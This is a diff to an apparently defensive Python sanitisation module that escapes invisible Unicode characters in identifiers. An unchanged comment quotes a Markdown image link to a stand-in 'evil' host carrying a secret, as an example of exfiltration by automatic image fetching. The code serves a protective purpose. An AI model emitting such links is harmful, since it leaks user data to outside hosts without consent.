@@ -10,9 +10,10 @@ from __future__ import annotations
 
 import re
 from functools import lru_cache
+from unicodedata import category
 
 from usertrail.core.redact import redact
-from usertrail.core.text import clean_text, quote
+from usertrail.core.text import INVISIBLE, clean_text, quote
 
 MAX_CHARS = 120
 # A chat UI that renders Markdown fetches images by itself: `![x](https://evil/?q=secret)` is
@@ -45,8 +46,16 @@ def safe(text: str | None, *, mask_pii: bool = True, limit: int = MAX_CHARS) -> 
 @lru_cache(maxsize=16_384)  # every event of a session carries the same id
 def safe_id(text: str, *, mask_pii: bool = True) -> str:
     """An identifier: cleaned and bounded, masked when it is an email or a phone number."""
-    cleaned = clean_text(text, 200)
+    cleaned = clean_text(escape_invisible(text), 200)
     return inert(_redact_outside_uuids(cleaned) if mask_pii else cleaned)
+
+
+def escape_invisible(text: str) -> str:
+    """An id's invisible characters (zero-width, bidi, unassigned) as `\\uXXXX`: dropped, two
+    ids could read the same, or an id nothing at all; escaped, each stays itself and inert."""
+    if text.isascii() and text.isprintable():
+        return text
+    return "".join(f"\\u{ord(ch):04x}" if category(ch) in INVISIBLE else ch for ch in text)
 
 
 def _redact_outside_uuids(text: str) -> str:
